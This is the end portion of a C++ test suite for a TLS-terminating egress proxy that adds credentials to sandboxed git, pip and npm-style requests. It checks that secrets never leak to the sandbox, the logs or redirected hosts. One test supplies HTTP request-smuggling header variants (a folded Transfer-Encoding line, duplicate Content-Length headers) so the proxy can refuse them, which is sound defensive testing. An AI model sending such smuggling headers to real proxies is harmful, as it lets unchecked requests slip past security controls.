    std::string hp = fmt::format("{}:{}", host, port);
    send_all(fd_, fmt::format("CONNECT {} HTTP/1.1\r\nHost: {}\r\n\r\n", hp, hp));
    std::string head;  // byte by byte, so that no byte of the TLS is taken with it
    char c;
    while (head.find("\r\n\r\n") == std::string::npos && ::read(fd_, &c, 1) == 1) head += c;
    if (head.rfind("HTTP/1.1 200", 0) != 0) return;
    ctx_ = SSL_CTX_new(TLS_client_method());
    X509* ca = load_pem(trust_pem);
    if (!ca) return;
    X509_STORE_add_cert(SSL_CTX_get_cert_store(ctx_), ca);
    X509_free(ca);
    SSL_CTX_set_verify(ctx_, SSL_VERIFY_PEER, nullptr);
    ssl_ = SSL_new(ctx_);
    SSL_set_tlsext_host_name(ssl_, host.c_str());
    SSL_set1_host(ssl_, host.c_str());
    SSL_set_fd(ssl_, fd_);
    ok_ = SSL_connect(ssl_) == 1;
  }
  ~KeptTls() {
    if (ssl_) SSL_free(ssl_);
    if (ctx_) SSL_CTX_free(ctx_);
    if (fd_ >= 0) ::close(fd_);
  }
  KeptTls(const KeptTls&) = delete;
  KeptTls& operator=(const KeptTls&) = delete;

  bool ok() const { return ok_; }
  bool send(const std::string& data) {
    return SSL_write(ssl_, data.data(), static_cast<int>(data.size())) ==
           static_cast<int>(data.size());
  }
  // One response: its head, then as many bytes as its Content-Length says.
  std::string response() {
    while (buf_.find("\r\n\r\n") == std::string::npos && fill()) {
    }
    size_t end = buf_.find("\r\n\r\n");
    if (end == std::string::npos) return std::exchange(buf_, "");
    std::string head = buf_.substr(0, end + 2);
    std::transform(head.begin(), head.end(), head.begin(),
                   [](unsigned char ch) { return std::tolower(ch); });
    size_t len = 0;
    if (size_t at = head.find("\r\ncontent-length:"); at != std::string::npos)
      len = std::strtoul(head.c_str() + at + 17, nullptr, 10);
    while (buf_.size() < end + 4 + len && fill()) {
    }
    std::string out = buf_.substr(0, std::min(buf_.size(), end + 4 + len));
    buf_.erase(0, out.size());
    return out;
  }
  // One chunked response: its head, then its chunks up to the last (empty) one, still encoded.
  std::string chunked_response() {
    while (buf_.find("\r\n\r\n") == std::string::npos && fill()) {
    }
    size_t end = buf_.find("\r\n\r\n");
    if (end == std::string::npos) return std::exchange(buf_, "");
    size_t last;
    while ((last = buf_.find("\r\n0\r\n\r\n", end + 2)) == std::string::npos && fill()) {
    }
    if (last == std::string::npos) return std::exchange(buf_, "");
    std::string out = buf_.substr(0, last + 7);
    buf_.erase(0, out.size());
    return out;
  }
  // How the proxy ended the connection: SSL_ERROR_ZERO_RETURN after a close_notify.
  int end() {
    char b[4096];
    int n;
    while ((n = SSL_read(ssl_, b, sizeof b)) > 0) buf_.append(b, static_cast<size_t>(n));
    return SSL_get_error(ssl_, n);
  }

 private:
  bool fill() {
    char b[4096];
    int n = SSL_read(ssl_, b, sizeof b);
    if (n <= 0) return false;
    buf_.append(b, static_cast<size_t>(n));
    return true;
  }
  int fd_ = -1;
  SSL_CTX* ctx_ = nullptr;
  SSL* ssl_ = nullptr;
  bool ok_ = false;
  std::string buf_;
};

TEST_F(IsolateEgressInjectHttps, OneTlsConnectionCarriesSeveralRequestsEachCheckedOnItsOwn) {
  bound.reset();
  bound = std::make_unique<test::FakeModelUpstream>(
      cert, test::FakeUpstreamOptions{0, 0, "Bearer " + kNpmToken, ""});
  start();
  KeptTls c(proxy->socket_path(), "npm.example.test", bound->port(), proxy->ca_cert_pem());
  ASSERT_TRUE(c.ok()) << "the handshake with the unit's CA";
  std::string host = fmt::format("Host: npm.example.test:{}\r\n", bound->port());
  // A body of a declared length with the next request right behind it (pipelined): the proxy
  // sends the body's bytes alone, then reads and checks the next request itself.
  ASSERT_TRUE(c.send("POST /pkg/a HTTP/1.1\r\n" + host + "Content-Length: 5\r\n\r\nhello" +
                     "GET /pkg/b HTTP/1.1\r\n" + host + "Authorization: Bearer " + kPlaceholder +
                     "\r\n\r\n"));
  replies.push_back(c.response());
  replies.push_back(c.response());
  EXPECT_EQ(replies[0].rfind("HTTP/1.1 401", 0), 0u) << replies[0];  // POST: not the rule's
  EXPECT_EQ(replies[1].rfind("HTTP/1.1 200", 0), 0u) << replies[1];
  EXPECT_NE(replies[1].find("private ok\n"), std::string::npos) << replies[1];
  // Another host's name, on the connection the proxy kept: refused, and the connection ends,
  // with a close_notify.
  ASSERT_TRUE(c.send("GET /pkg/c HTTP/1.1\r\nHost: other.test\r\nAuthorization: Bearer " +
                     kPlaceholder + "\r\n\r\n"));
  replies.push_back(c.response());
  EXPECT_EQ(replies[2].rfind("HTTP/1.1 403", 0), 0u) << replies[2];
  EXPECT_NE(replies[2].find("deny host-header-mismatch"), std::string::npos) << replies[2];
  EXPECT_EQ(c.end(), SSL_ERROR_ZERO_RETURN) << "the phase's TLS ends with a close_notify";
  auto seen = bound->seen();
  ASSERT_EQ(seen.size(), 2u) << "the third request went nowhere";
  EXPECT_EQ(seen[0].target, "/pkg/a");
  EXPECT_EQ(seen[0].body, "hello");
  EXPECT_EQ(seen[0].head.find(kNpmToken), std::string::npos) << seen[0].head;
  EXPECT_EQ(seen[1].target, "/pkg/b");
  EXPECT_NE(seen[1].head.find("Authorization: Bearer " + kNpmToken + "\r\n"), std::string::npos)
      << seen[1].head;
  EXPECT_EQ(count(seen[1].head, "Authorization:"), 1u);
  EXPECT_EQ(bound->connections(), 1) << "the upstream connection is kept alive too";
  expect_value_nowhere();
}

// An answer whose end is its last chunk (a streamed model reply) is relayed whole, re-chunked,
// and the connection carries the next request.
TEST_F(IsolateEgressInjectHttps, AChunkedAnswerLeavesTheConnectionForTheNextRequest) {
  start();
  KeptTls c(proxy->socket_path(), "npm.example.test", bound->port(), proxy->ca_cert_pem());
  ASSERT_TRUE(c.ok());
  std::string host = fmt::format("Host: npm.example.test:{}\r\n", bound->port());
  std::string body = R"({"model":"fake","stream":true,"messages":[]})";
  ASSERT_TRUE(c.send(fmt::format("POST /v1/messages HTTP/1.1\r\n{}Content-Type: application/json"
                                 "\r\nContent-Length: {}\r\n\r\n{}",
                                 host, body.size(), body)));
  replies.push_back(c.chunked_response());
  EXPECT_EQ(replies[0].rfind("HTTP/1.1 200", 0), 0u) << replies[0];
  EXPECT_NE(replies[0].find("Transfer-Encoding: chunked"), std::string::npos) << replies[0];
  EXPECT_NE(replies[0].find("message_stop"), std::string::npos) << replies[0];
  ASSERT_TRUE(c.send("GET /pkg/b HTTP/1.1\r\n" + host + "\r\n"));
  replies.push_back(c.response());
  EXPECT_EQ(replies[1].rfind("HTTP/1.1 404", 0), 0u) << replies[1];
  auto seen = bound->seen();
  ASSERT_EQ(seen.size(), 2u);
  EXPECT_EQ(seen[0].body, body);
  EXPECT_EQ(seen[0].head.find(kNpmToken), std::string::npos) << "POST is not the rule's";
  EXPECT_NE(seen[1].head.find("Authorization: Bearer " + kNpmToken + "\r\n"), std::string::npos)
      << seen[1].head;
  EXPECT_EQ(bound->connections(), 1);
  expect_value_nowhere();
}

// A header line the proxy and an upstream could frame differently (a folded line hiding a
// Transfer-Encoding, two lengths) would let a body carry a second request the proxy never
// checked: refused.
TEST_F(IsolateEgressInjectHttps, AKeptConnectionRefusesHeadersItCannotFrame) {
  start();
  std::string host = fmt::format("Host: npm.example.test:{}\r\n", bound->port());
  for (const std::string& bad : {std::string("X-A: b\r\n Transfer-Encoding: chunked\r\n"),
                                 std::string("Transfer-Encoding : chunked\r\n"),
                                 std::string("Content-Length: 3\r\nContent-Length: 30\r\n"),
                                 std::string("Content-Length: +3\r\n")}) {
    KeptTls c(proxy->socket_path(), "npm.example.test", bound->port(), proxy->ca_cert_pem());
    ASSERT_TRUE(c.ok());
    ASSERT_TRUE(c.send("POST /pkg/a HTTP/1.1\r\n" + host + bad + "\r\nabc"));
    std::string got = c.response();
    EXPECT_EQ(got.rfind("HTTP/1.1 403", 0), 0u) << bad << got;
    EXPECT_TRUE(got.find("deny bad-header-line") != std::string::npos ||
                got.find("deny bad-content-length") != std::string::npos)
        << bad << got;
  }
  EXPECT_TRUE(bound->seen().empty());
}

// ---- real clients: git clone and pip download of a private dependency behind Basic auth ----

// A deploy token's password, shaped like a GitLab token; fake.
const std::string kDeployPass = "glpat-FAKEfakeFAKEfake5678";
const std::string kDeployPlaceholder =
    "awaywork-placeholder-DEPLOY_PASSWORD-fedcba9876543210fedcba9876543210";

// The rule `secrets: {DEPLOY_PASSWORD: {inject: [{host: HOST, basic: {user: deploy}, methods:
// [GET, POST], paths: [PREFIX]}]}}` makes (config/parse_secrets.cc).
EgressInjection deploy_rule(const std::string& host, const std::string& prefix) {
  EgressInjection r;
  r.secret = "DEPLOY_PASSWORD";
  r.value = kDeployPass;
  r.host = host;
  r.basic_user = "deploy";
  r.methods = {"GET", "POST"};
  r.paths = {prefix};
  return r;
}

bool pip_installed() {
  return std::system("/usr/bin/python3 -m pip --version >/dev/null 2>&1") == 0;
}

// Every regular file under dir (not following links) that holds needle.
std::vector<std::string> files_holding(const std::string& dir, const std::string& needle) {
  namespace fs = std::filesystem;
  std::vector<std::string> out;
  std::error_code ec;
  for (auto it = fs::recursive_directory_iterator(dir, ec); it != fs::end(it); it.increment(ec)) {
    if (it->is_symlink() || !it->is_regular_file()) continue;
    std::ifstream in(it->path(), std::ios::binary);
    std::string bytes((std::istreambuf_iterator<char>(in)), {});
    if (bytes.find(needle) != std::string::npos) out.push_back(it->path());
  }
  return out;
}

// The test server tests/fakes/private_registry.py (git http-backend and a PEP 503 index, both
// behind Basic auth for deploy:kDeployPass) over TLS with a test certificate for
// git.example.test and pypi.example.test; the proxy resolves both to it. The phase is a real
// client in the OS sandbox, holding only DEPLOY_PASSWORD's placeholder, trusting the unit's CA
// through the variables the unit sets.
struct ClientInjectFixture : HttpsInjectFixture {
  test::TestCert reg_cert;
  pid_t reg_pid = -1;
  uint16_t reg_port = 0;
  std::string reg_log;
  std::string work;                         // the phase's folder (writable in the sandbox)
  std::vector<std::string> registry_extra;  // more options for the test server

  void SetUp() override {
    HttpsInjectFixture::SetUp();
    if (HasFatalFailure()) return;
    reg_cert = test::make_test_cert(dir.path, "registry",
                                    {"git.example.test", "pypi.example.test", "cdn.example.test"});
    ASSERT_FALSE(reg_cert.cert.empty()) << "the openssl CLI made no certificate";
    reg_log = dir.path + "/registry.log";
    work = dir.path + "/clone";
    ASSERT_TRUE(make_dirs(work + "/tmp"));
    std::vector<std::string> argv = {
        "/usr/bin/python3",
        std::string(AW_SOURCE_DIR) + "/tests/fakes/private_registry.py",
        "--root",
        dir.path + "/registry",
        "--cert",
        reg_cert.cert,
        "--key",
        reg_cert.key,
        "--user",
        "deploy",
        "--password",
        kDeployPass,
        "--log",
        reg_log,
        "--git-repo",
        "private-dep",
        "--wheel",
        "privpkg==1.0"};
    argv.insert(argv.end(), registry_extra.begin(), registry_extra.end());
    std::string line = test::spawn_fake(argv, &reg_pid);
    ASSERT_FALSE(line.empty()) << "the test registry did not start";
    reg_port = static_cast<uint16_t>(std::stoi(line));
  }

  void TearDown() override {
    if (reg_pid > 0) {
      ::kill(reg_pid, SIGTERM);
      ::waitpid(reg_pid, nullptr, 0);
    }
  }

  // npm.example.test's rule is always there, so that the proxy has a CA even when the registry's
  // hosts have no rule (the positive controls: they are then plain tunnels).
  void start_clients(std::vector<EgressInjection> rules) {
    rules.push_back(npm_rule());
    EgressProxyOptions o;
    o.socket_path = dir.path + "/egress.sock";
    o.allow = {"git.example.test", "pypi.example.test", "cdn.example.test", "npm.example.test"};
    o.static_hosts = {{"git.example.test", "127.0.0.1"},
                      {"pypi.example.test", "127.0.0.1"},
                      {"cdn.example.test", "127.0.0.1"},
                      {"npm.example.test", "127.0.0.1"}};
    o.allow_private_upstream = true;
    o.inject = std::move(rules);
    o.placeholders = {{kPlaceholder, "NPM_TOKEN"}, {kDeployPlaceholder, "DEPLOY_PASSWORD"}};
    o.ca_file = reg_cert.cert;
    o.log = [this](const std::string& line) {
      std::lock_guard<std::mutex> l(mu);
      log.push_back(line);
    };
    auto p = EgressProxy::start(o);
    ASSERT_TRUE(p) << p.error().message;
    proxy = std::move(*p);
  }

  // argv in the sandbox, in work, trusting trust_pem as a unit's phase does (the variables of
  // ca_bundle_env_names that git and pip read); never prompting for a password.
  test::Ran client(std::vector<std::string> argv, const std::string& trust_pem) {
    std::string ca = work + "/ca.pem";
    EXPECT_TRUE(write_file(ca, trust_pem, 0644));
    SandboxPlan plan;
    plan.network = Network::allowlist;
    plan.proxy_socket = proxy->socket_path();
    plan.writable = {work};
    plan.apply_limits = false;
    test::Ran r =
        test::run_with(make_sandbox_launcher(plan), std::move(argv), work,
                       {"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=/nonexistent", "LANG=C",
                        "TMPDIR=" + work + "/tmp", "GIT_SSL_CAINFO=" + ca, "PIP_CERT=" + ca,
                        "REQUESTS_CA_BUNDLE=" + ca, "SSL_CERT_FILE=" + ca, "GIT_TERMINAL_PROMPT=0",
                        "GIT_CONFIG_NOSYSTEM=1", "PIP_CONFIG_FILE=/dev/null",
                        "DEPLOY_PASSWORD=" + kDeployPlaceholder});
    EXPECT_TRUE(r.started) << r.start_error;
    return r;
  }

  // What the test server saw, one object per request.
  std::vector<nlohmann::json> registry_seen() {
    std::vector<nlohmann::json> out;
    std::ifstream in(reg_log);
    for (std::string line; std::getline(in, line);)
      if (!line.empty()) out.push_back(nlohmann::json::parse(line, nullptr, false));
    return out;
  }

  // The value, and the Basic credentials made of it, in nothing the phase or the record sees:
  // its output, its folder (the clone, the downloads), the proxy's log.
  void expect_deploy_value_nowhere(const test::Ran& r) {
    std::string basic = injected_value(deploy_rule("git.example.test", "/"));
    std::string b64 = basic.substr(std::string("Basic ").size());
    for (const std::string& v : {kDeployPass, b64}) {
      EXPECT_EQ(r.out.find(v), std::string::npos) << r.out;
      EXPECT_EQ(r.err.find(v), std::string::npos) << r.err;
      EXPECT_TRUE(files_holding(work, v).empty()) << files_holding(work, v)[0];
      for (const auto& l : lines()) EXPECT_EQ(l.find(v), std::string::npos) << l;
    }
  }
};

using IsolateEgressInjectClients = ClientInjectFixture;

TEST_F(IsolateEgressInjectClients, GitClonesAPrivateDependencyWithTheBasicCredentialsAdded) {
  start_clients({deploy_rule("git.example.test", "/git/")});
  auto r = client({"git", "clone",
                   fmt::format("https://git.example.test:{}/git/private-dep.git", reg_port), "dep"},
                  proxy->ca_cert_pem());
  EXPECT_EQ(r.exit_code(), 0) << r.out << r.err;
  auto readme = read_file(work + "/dep/README");
  ASSERT_TRUE(readme) << r.err;
  EXPECT_EQ(*readme, "private dependency ok\n");
  // The server got the credentials the rule makes, on every request (the ref advertisement and
  // the upload-pack POST), and the phase never had them.
  std::string basic = injected_value(deploy_rule("git.example.test", "/git/"));
  auto seen = registry_seen();
  ASSERT_GE(seen.size(), 2u);
  bool posted = false;
  for (const auto& s : seen) {
    EXPECT_EQ(s.value("authorization", ""), basic) << s.dump();
    EXPECT_EQ(s.value("status", 0), 200) << s.dump();
    posted = posted || s.value("method", "") == "POST";
  }
  EXPECT_TRUE(posted) << "git's upload-pack POST went through the terminated TLS too";
  size_t injected = 0;
  for (const auto& line : lines())
    injected += line.find(R"("injected":"DEPLOY_PASSWORD")") != std::string::npos;
  EXPECT_EQ(injected, seen.size()) << "the egress log names the secret added to each request";
  expect_deploy_value_nowhere(r);
}

// Positive control: the same clone without the rule (git.example.test a plain tunnel, its own
// certificate trusted) meets the 401 and fails: the credentials above came from the proxy alone.
TEST_F(IsolateEgressInjectClients, WithoutTheRuleTheCloneMeetsA401AndFails) {
  start_clients({});
  auto r = client({"git", "clone",
                   fmt::format("https://git.example.test:{}/git/private-dep.git", reg_port), "dep"},
                  proxy->ca_cert_pem() + *read_file(reg_cert.cert));
  EXPECT_NE(r.exit_code(), 0) << r.out << r.err;
  EXPECT_FALSE(read_file(work + "/dep/README"));
  auto seen = registry_seen();
  ASSERT_FALSE(seen.empty()) << "the server was reached: " << r.err;
  for (const auto& s : seen) {
    EXPECT_EQ(s.value("status", 0), 401) << s.dump();
    EXPECT_EQ(s.value("authorization", "x"), "") << s.dump();
  }
  for (const auto& line : lines()) EXPECT_EQ(line.find("injected"), std::string::npos) << line;
  expect_deploy_value_nowhere(r);
}

// pip is a real client only where it is installed; CI installs python3-pip, so a skip there
// would hide a test that did not run.
#define REQUIRE_PIP()                                                                           \
  do {                                                                                          \
    if (!pip_installed()) {                                                                     \
      const char* ci = std::getenv("CI");                                                       \
      if (ci && std::string(ci) == "true") FAIL() << "CI=true but /usr/bin/python3 has no pip"; \
      GTEST_SKIP() << "python3-pip is not installed (/usr/bin/python3 -m pip)";                 \
    }                                                                                           \
  } while (0)

std::vector<std::string> pip_download(uint16_t port) {
  return {"/usr/bin/python3",
          "-m",
          "pip",
          "download",
          "--no-input",
          "--no-deps",
          "--no-cache-dir",
          "--disable-pip-version-check",
          "--index-url",
          fmt::format("https://pypi.example.test:{}/simple/", port),
          "-d",
          "wheels",
          "privpkg==1.0"};
}

TEST_F(IsolateEgressInjectClients, PipDownloadsFromAPrivateIndexWithTheBasicCredentialsAdded) {
  REQUIRE_PIP();
  start_clients({deploy_rule("pypi.example.test", "/simple/")});
  auto r = client(pip_download(reg_port), proxy->ca_cert_pem());
  EXPECT_EQ(r.exit_code(), 0) << r.out << r.err;
  EXPECT_TRUE(read_file(work + "/wheels/privpkg-1.0-py3-none-any.whl")) << r.out << r.err;
  std::string basic = injected_value(deploy_rule("pypi.example.test", "/simple/"));
  auto seen = registry_seen();
  ASSERT_EQ(seen.size(), 2u) << r.out << r.err;  // the project's page, then the wheel
  EXPECT_EQ(seen[0].value("path", ""), "/simple/privpkg/");
  EXPECT_EQ(seen[1].value("path", ""), "/simple/privpkg/privpkg-1.0-py3-none-any.whl");
  for (const auto& s : seen) {
    EXPECT_EQ(s.value("authorization", ""), basic) << s.dump();
    EXPECT_EQ(s.value("status", 0), 200) << s.dump();
  }
  size_t injected = 0;
  for (const auto& line : lines())
    injected += line.find(R"("injected":"DEPLOY_PASSWORD")") != std::string::npos;
  EXPECT_EQ(injected, 2u) << "the egress log names the secret added to each request";
  expect_deploy_value_nowhere(r);
}

// Positive control: without the rule the index answers 401 and pip finds nothing.
TEST_F(IsolateEgressInjectClients, WithoutTheRulePipMeetsA401AndFails) {
  REQUIRE_PIP();
  start_clients({});
  auto r = client(pip_download(reg_port), proxy->ca_cert_pem() + *read_file(reg_cert.cert));
  EXPECT_NE(r.exit_code(), 0) << r.out << r.err;
  EXPECT_FALSE(read_file(work + "/wheels/privpkg-1.0-py3-none-any.whl"));
  auto seen = registry_seen();
  ASSERT_FALSE(seen.empty()) << "the server was reached: " << r.out << r.err;
  for (const auto& s : seen) {
    EXPECT_EQ(s.value("status", 0), 401) << s.dump();
    EXPECT_EQ(s.value("authorization", "x"), "") << s.dump();
  }
  for (const auto& line : lines()) EXPECT_EQ(line.find("injected"), std::string::npos) << line;
  expect_deploy_value_nowhere(r);
}

// A registry that sends its downloads to another host (a CDN; the test server with
// --redirect-host): pip follows the redirect, and the other host, which has no rule (a tunnel,
// its own certificate trusted), gets no secret.
struct RedirectingRegistryFixture : ClientInjectFixture {
  void SetUp() override {
    registry_extra = {"--redirect-host", "cdn.example.test"};
    ClientInjectFixture::SetUp();
  }
};

using IsolateEgressInjectClientsRedirect = RedirectingRegistryFixture;

TEST_F(IsolateEgressInjectClientsRedirect, PipFollowsARedirectToAnotherHostThatGetsNoSecret) {
  REQUIRE_PIP();
  start_clients({deploy_rule("pypi.example.test", "/simple/")});
  auto r = client(pip_download(reg_port), proxy->ca_cert_pem() + *read_file(reg_cert.cert));
  EXPECT_EQ(r.exit_code(), 0) << r.out << r.err;
  EXPECT_TRUE(read_file(work + "/wheels/privpkg-1.0-py3-none-any.whl")) << r.out << r.err;
  std::string basic = injected_value(deploy_rule("pypi.example.test", "/simple/"));
  auto seen = registry_seen();
  ASSERT_EQ(seen.size(), 3u) << r.out << r.err;  // the project's page, the redirect, the file
  EXPECT_EQ(seen[0].value("authorization", ""), basic) << seen[0].dump();
  EXPECT_EQ(seen[1].value("status", 0), 302) << seen[1].dump();
  EXPECT_EQ(seen[1].value("authorization", ""), basic) << "the registry's own request had it";
  EXPECT_EQ(seen[2].value("path", ""), "/files/privpkg/privpkg-1.0-py3-none-any.whl");
  EXPECT_EQ(seen[2].value("status", 0), 200) << seen[2].dump();
  EXPECT_EQ(seen[2].value("authorization", "x"), "") << "the other host got no secret";
  size_t injected = 0;
  for (const auto& line : lines())
    injected += line.find(R"("injected":"DEPLOY_PASSWORD")") != std::string::npos;
  EXPECT_EQ(injected, 2u) << "added to the registry's two requests only";
  expect_deploy_value_nowhere(r);
}

}  // namespace
}  // namespace aw
